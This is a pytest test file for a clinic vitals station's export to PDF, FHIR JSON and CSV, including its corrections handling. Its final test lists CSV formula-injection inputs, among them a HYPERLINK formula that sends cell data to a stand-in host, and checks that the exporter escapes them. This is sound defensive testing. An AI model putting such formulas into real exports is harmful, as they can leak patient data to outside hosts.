"""The files of a visit: a sheet that a PDF reader reads, a bundle, a table that csv reads."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pdfplumber
import pytest

from station.charts.papers import visit_sheet
from station.corrections import Correction, CorrectionKind, corrected
from station.export.compose import compose
from station.export.correct import correction_messages
from station.export.fhir_destination import FhirDestination
from station.export.folder_destination import FolderDestination
from station.export.site import FhirSite
from station.export.table import COLUMNS
from station.settings import Settings
from station.visit import NotDone, NotDoneWhy, Result, ResultKind, SignedVisit
from station.vitals import Quantity, Unit, Vital
from tests.export.records import ACCEPTED, ACTOR, blood_pressure, reading, result, sign

FHIR = FhirDestination(
    name="share",
    test=True,
    site=FhirSite(namespace="https://clinic.example/vitals-station", time_zone=UTC),
)
FOLDER = FolderDestination(
    fhir=FHIR, forms=("pdf", "fhir", "csv"), sheet=visit_sheet(Settings(time_zone="UTC"))
)


def visit() -> SignedVisit:
    weight = result(
        ResultKind.BODY_WEIGHT,
        reading(Vital.BODY_WEIGHT, "154.5", Unit.POUND, measurement="w"),
        number="weight",
    )
    refused = Result(
        id="temp",
        kind=ResultKind.BODY_TEMPERATURE,
        accepted_at=ACCEPTED,
        accepted_by=ACTOR,
        not_done=NotDone(why=NotDoneWhy.REFUSED, reason='said "no", twice'),
    )
    reason = result(ResultKind.REASON_FOR_VISIT, text="Husten, nachts\närger", number="why")
    return sign(blood_pressure(), weight, refused, reason)


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_every_form_tells_every_result() -> None:
    messages = compose(visit(), [FOLDER])
    assert [one.media for one in messages] == [
        "application/pdf",
        "application/fhir+json",
        "text/csv",
    ]
    assert {one.results for one in messages} == {("bp", "weight", "temp", "why")}
    assert len({one.key for one in messages}) == 3


def test_the_table_has_the_digits_that_were_measured() -> None:
    table = compose(visit(), [FOLDER])[2].body
    assert table.split(b"\r\n")[0].decode() == ",".join(COLUMNS)
    told = [(one["vital"], one["value"], one["unit_ucum"], one["text"]) for one in rows(table)]
    assert told == [
        ("systolic", "121", "mm[Hg]", ""),
        ("diastolic", "81", "mm[Hg]", ""),
        ("mean_arterial_pressure", "106", "mm[Hg]", ""),
        ("body_weight", "154.5", "[lb_av]", ""),
        ("", "", "", 'said "no", twice'),
        ("", "", "", "Husten, nachts\närger"),
    ]
    first = rows(table)[0]
    assert first["measured_at"] == "2026-11-24T15:46:05+00:00"
    assert first["device"] == "Example Instruments BP-2 A1234"
    assert (first["patient_id"], first["mrn"], first["status"]) == ("pat-1", "100231", "final")
    assert rows(table)[4]["status"] == "not done"


def test_the_sheet_reads_as_paper() -> None:
    pdf = compose(visit(), [FOLDER])[0].body
    with pdfplumber.open(io.BytesIO(pdf)) as paper:
        words = paper.pages[0].extract_text()
    assert "Okafor" in words
    assert "121" in words
    assert "154.5" in words


def change() -> Correction:
    was = blood_pressure()
    numbers = [
        (Vital.SYSTOLIC, Quantity(Decimal(131), Unit.MMHG)),
        (Vital.DIASTOLIC, Quantity(Decimal(81), Unit.MMHG)),
    ]
    at = datetime(2026, 11, 24, 16, 10, tzinfo=UTC)
    return Correction(
        id="c1",
        visit_id="v1",
        result_id="bp",
        kind=CorrectionKind.AMENDED,
        at=at,
        by=ACTOR,
        reason="read from the wrong line",
        result=corrected(was, numbers, ACTOR, at),
    )


def test_the_files_of_a_correction_have_what_holds_now() -> None:
    made = change()
    pdf, bundle, table = correction_messages(visit(), blood_pressure(), made, [FOLDER], ["share"])
    assert {one.results for one in (pdf, bundle, table)} == {("bp",)}
    assert pdf.visit_id == "v1"  # the name of the file: the new one takes the old one's place
    entries: list[dict[str, Any]] = json.loads(bundle.body)["entry"]
    statuses = {one["resource"]["status"] for one in entries}
    assert statuses == {"final", "corrected"}
    changed = [one for one in rows(table.body) if one["vital"] == "systolic"]
    assert [(one["value"], one["status"]) for one in changed] == [("131", "corrected")]
    assert len(rows(table.body)) == 5  # the mean pressure belonged to the wrong numbers


def test_what_was_entered_in_error_is_marked_in_the_table() -> None:
    wrong = dataclasses.replace(change(), kind=CorrectionKind.ENTERED_IN_ERROR, result=None)
    table = correction_messages(visit(), blood_pressure(), wrong, [FOLDER], ["share"])[2]
    marked = {one["status"] for one in rows(table.body) if one["kind"] == "blood_pressure"}
    assert marked == {"entered in error"}


def test_a_pdf_needs_somebody_who_draws_it() -> None:
    with pytest.raises(ValueError, match="draws"):
        FolderDestination(fhir=FHIR, forms=("pdf",))


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&C2)', '\'=HYPERLINK("http://x.example/?"&C2)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1 more pillow", "'+1 more pillow"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("pain = 7", "pain = 7"),
    ],
)
def test_a_spreadsheet_computes_nothing_that_somebody_said(said: str, written: str) -> None:
    note = result(ResultKind.REASON_FOR_VISIT, text=said, number="why")
    temperature = result(
        ResultKind.BODY_TEMPERATURE,
        reading(Vital.BODY_TEMPERATURE, "36.6", Unit.CELSIUS, measurement="t"),
        number="t",
    )
    *_, table = compose(sign(dataclasses.replace(note, note=said), temperature), [FOLDER])
    told, measured = rows(table.body)
    assert (told["text"], told["note"]) == (written, written)
    assert measured["value"] == "36.6"
